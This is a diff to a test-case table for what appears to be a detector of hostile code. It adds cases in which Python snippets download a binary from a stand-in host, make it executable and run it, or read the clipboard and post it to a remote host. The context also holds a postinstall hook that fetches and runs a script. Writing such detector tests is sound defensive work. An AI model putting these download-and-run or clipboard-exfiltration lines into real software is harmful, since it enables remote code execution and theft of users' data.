@@ -173,6 +173,22 @@ const CASES: Readonly<Record<string, Case>> = {
     negation: py('c = requests.get("http://localhost:1/c").text\nos.system(c)'),
     miss: py('c = requests.get("https://far.xyz/c").text\nprint(c)'),
   },
+  'starts-download': {
+    hit: py(
+      'blob = urlopen("https://far.xyz/p").read()\nopen(path, "wb").write(blob)\nos.chmod(path, 0o755)\nsubprocess.Popen([path])',
+    ),
+    negation:
+      '## Malicious\n\n```py\nblob = urlopen("https://far.xyz/p").read()\nos.chmod(path, 0o755)\nsubprocess.Popen([path])\n```',
+    miss: py(
+      'blob = urlopen("https://nodejs.org/dist/node.gz").read()\nos.chmod(path, 0o755)\nsubprocess.Popen([path])',
+    ),
+  },
+  'watches-user': {
+    hit: py('text = pyperclip.paste()\nrequests.post("https://far.dev/in", json={"words": text})'),
+    negation:
+      '## Attack\n\n```py\nimport pynput\ntext = pyperclip.paste()\nrequests.post("https://far.dev/in", json=text)\n```',
+    miss: py('text = pyperclip.paste()\nprint(sorted(text.split()))'),
+  },
   'install-script': {
     hit: ['{"scripts":{"postinstall":"curl -s https://far.xyz/p -o p && sh p"}}', 'package.json'],
     negation:
